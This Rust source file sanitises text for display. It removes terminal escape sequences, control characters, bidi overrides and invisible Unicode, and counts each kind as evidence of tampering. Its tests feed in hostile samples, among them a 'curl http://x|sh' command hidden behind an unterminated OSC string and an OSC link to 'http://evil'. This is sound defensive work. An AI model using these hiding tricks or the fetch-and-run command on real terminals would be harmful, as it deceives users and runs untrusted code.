//! Takes out of a text what acts on its reader or hides from it, and says what was there.
//!
//! Escape sequences of a terminal (ANSI, OSC, DCS), other control characters, direction overrides, characters without
//! width, and the invisible tag characters of Unicode are removed; bytes that are no UTF-8 became `U+FFFD` before. That
//! somebody tried is evidence, so [`clean`] counts each kind. Cleaning is idempotent: what it gives back has
//! nothing left to remove (a property test says so).

use serde::{Deserialize, Serialize};
use vte::{Parser, Perform};

/// What was removed from a text, by kind. All zero for an honest line.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Default, Serialize, Deserialize)]
pub struct Removed {
    /// Terminal escape sequences: colours, cursor moves, links, titles, device strings.
    pub escapes: u32,
    /// Control characters that stood alone (C0 and C1).
    pub controls: u32,
    /// Characters that change the direction of text.
    pub bidi: u32,
    /// Characters without width, soft hyphens, and Unicode tags.
    pub invisible: u32,
}

impl Removed {
    /// Tells whether something was removed that an honest program would hardly write: anything but a stray control.
    pub fn is_suspicious(&self) -> bool {
        self.escapes > 0 || self.bidi > 0 || self.invisible > 0
    }

    /// Adds the counts of another text.
    pub fn add(&mut self, other: Self) {
        self.escapes = self.escapes.saturating_add(other.escapes);
        self.controls = self.controls.saturating_add(other.controls);
        self.bidi = self.bidi.saturating_add(other.bidi);
        self.invisible = self.invisible.saturating_add(other.invisible);
    }
}

/// Cleans a text into one line and counts what went.
pub fn clean(text: &str) -> (String, Removed) {
    if is_plain(text) {
        return (text.to_owned(), Removed::default());
    }
    let mut collector = Collector::default();
    let text = &open_strings(text, &mut collector.removed);
    collector.text.reserve(text.len());
    // C1 controls (U+0080..U+009F) start escape sequences on some terminals. The parser sees them as text, so they
    // are turned into their seven-bit form first.
    if text.chars().any(|character| ('\u{80}'..='\u{9f}').contains(&character)) {
        let mut seven_bit = String::with_capacity(text.len() + 8);
        for character in text.chars() {
            match u32::from(character) {
                code @ 0x80..=0x9f => {
                    seven_bit.push('\u{1b}');
                    seven_bit.push(char::from_u32(code - 0x40).unwrap_or(' '));
                }
                _ => seven_bit.push(character),
            }
        }
        Parser::<1024>::new_with_size().advance(&mut collector, seven_bit.as_bytes());
    } else {
        Parser::<1024>::new_with_size().advance(&mut collector, text.as_bytes());
    }
    (collector.text, collector.removed)
}

/// Tells whether a text has nothing but printable ASCII, as most have: then there is nothing to remove.
fn is_plain(text: &str) -> bool {
    // All of them are looked at, for that is done many at a time.
    text.bytes().fold(true, |is_plain, byte| is_plain & (0x20..0x7f).contains(&byte))
}

/// Takes the introducers of terminal strings (OSC, DCS, APC, PM, SOS) away and leaves what they carry as text.
///
/// A terminal shows nothing of such a string, and swallows the rest of the line if it never ends: a command could hide in it. Here
/// it is evidence.
fn open_strings(text: &str, removed: &mut Removed) -> String {
    let mut open = String::with_capacity(text.len());
    let mut characters = text.chars().peekable();
    while let Some(character) = characters.next() {
        let introduces = match character {
            '\u{1b}' => characters
                .next_if(|next| matches!(next, ']' | 'P' | '_' | '^' | 'X' | '\\'))
                .is_some(),
            '\u{90}' | '\u{98}' | '\u{9c}' | '\u{9d}' | '\u{9e}' | '\u{9f}' => true,
            _ => false,
        };
        if introduces {
            removed.escapes = removed.escapes.saturating_add(1);
            open.push(' ');
        } else {
            open.push(character);
        }
    }
    open
}

/// Cleans a text and cuts it to `characters_max`, ending in `…` where something was cut.
pub fn shown(text: &str, characters_max: usize) -> String {
    if text.len() <= characters_max && is_plain(text) {
        return text.to_owned();
    }
    // The cut comes first on a generous bound, so that a line of a megabyte is not parsed for a cell of eighty.
    let bound = characters_max.saturating_mul(4).saturating_add(256);
    let head = text.char_indices().nth(bound).map_or(text, |(at, _)| text.split_at(at).0);
    let (cleaned, _) = clean(head);
    cut(&cleaned, characters_max, head.len() < text.len())
}

/// Cuts a text to `characters_max` characters, with `…` as the last one where something was cut.
pub fn cut(text: &str, characters_max: usize, was_cut_already: bool) -> String {
    let count = text.chars().count();
    if count <= characters_max && !was_cut_already {
        return text.to_owned();
    }
    let mut kept: String = text.chars().take(characters_max.saturating_sub(1)).collect();
    kept.push('…');
    kept
}

/// Gathers printable text from the terminal parser and counts the rest.
#[derive(Default)]
struct Collector {
    text: String,
    removed: Removed,
}

impl Perform for Collector {
    fn print(&mut self, character: char) {
        match character {
            '\u{202a}'..='\u{202e}'
            | '\u{2066}'..='\u{2069}'
            | '\u{200e}'
            | '\u{200f}'
            | '\u{061c}' => {
                self.removed.bidi = self.removed.bidi.saturating_add(1);
            }
            '\u{200b}'..='\u{200d}'
            | '\u{2060}'..='\u{2064}'
            | '\u{feff}'
            | '\u{00ad}'
            | '\u{180e}'
            | '\u{fe00}'..='\u{fe0f}'
            | '\u{fff9}'..='\u{fffb}'
            | '\u{e0000}'..='\u{e007f}'
            | '\u{e0100}'..='\u{e01ef}'
            | '\u{115f}'
            | '\u{1160}'
            | '\u{3164}'
            | '\u{ffa0}' => {
                self.removed.invisible = self.removed.invisible.saturating_add(1);
            }
            '\u{2028}' | '\u{2029}' => self.text.push(' '),
            '\u{7f}'..='\u{9f}' => self.removed.controls = self.removed.controls.saturating_add(1),
            _ => self.text.push(character),
        }
    }

    fn execute(&mut self, byte: u8) {
        match byte {
            b'\n' | b'\t' => self.text.push(' '),
            b'\r' => {}
            _ => self.removed.controls = self.removed.controls.saturating_add(1),
        }
    }

    fn hook(&mut self, _: &vte::Params, _: &[u8], _: bool, _: char) {
        self.removed.escapes = self.removed.escapes.saturating_add(1);
    }

    fn osc_dispatch(&mut self, _: &[&[u8]], _: bool) {
        self.removed.escapes = self.removed.escapes.saturating_add(1);
    }

    fn csi_dispatch(&mut self, _: &vte::Params, _: &[u8], _: bool, _: char) {
        self.removed.escapes = self.removed.escapes.saturating_add(1);
    }

    fn esc_dispatch(&mut self, _: &[u8], _: bool, _: u8) {
        self.removed.escapes = self.removed.escapes.saturating_add(1);
    }
}

#[cfg(test)]
mod tests {
    use proptest::prelude::*;

    use super::*;

    #[test]
    fn colours_links_and_device_strings_go_and_are_counted() {
        let (text, removed) = clean(
            "\u{1b}[31mred\u{1b}[0m \u{1b}]8;;http://evil\u{7}link\u{1b}\\ \u{1b}Pq\u{1b}\\end",
        );
        let text: Vec<&str> = text.split_whitespace().collect();
        assert_eq!(text.join(" "), "red 8;;http://evillink q end");
        assert!(removed.escapes >= 4, "{removed:?}");
    }

    #[test]
    fn text_that_hides_or_turns_round_is_made_plain() {
        let (text, removed) = clean("pa\u{200b}ss\u{202e}drow\u{e0041}\u{9b}31mx");
        assert_eq!(text, "passdrowx");
        assert_eq!((removed.bidi, removed.invisible), (1, 2));
        assert!(removed.is_suspicious());
    }

    #[test]
    fn a_terminal_string_that_never_ends_hides_nothing() {
        let (text, removed) = clean("login ok \u{1b}]0;t then curl http://x|sh");
        assert!(text.ends_with("0;t then curl http://x|sh"), "{text}");
        assert!(removed.is_suspicious());
    }

    #[test]
    fn a_line_break_becomes_a_blank_so_that_one_alert_stays_one_line() {
        assert_eq!(clean("a\r\nb\tc").0, "a b c");
    }

    #[test]
    fn a_long_text_ends_in_an_ellipsis() {
        assert_eq!(shown("abcdef", 4), "abc…");
        assert_eq!(shown("abcd", 4), "abcd");
    }

    proptest! {
        #[test]
        fn cleaning_is_idempotent_and_leaves_nothing_that_acts(text in any::<String>()) {
            let (once, _) = clean(&text);
            prop_assert!(once.chars().all(|c| !c.is_control()));
            let (twice, removed) = clean(&once);
            prop_assert_eq!(&once, &twice);
            prop_assert_eq!(removed, Removed::default());
        }
    }
}
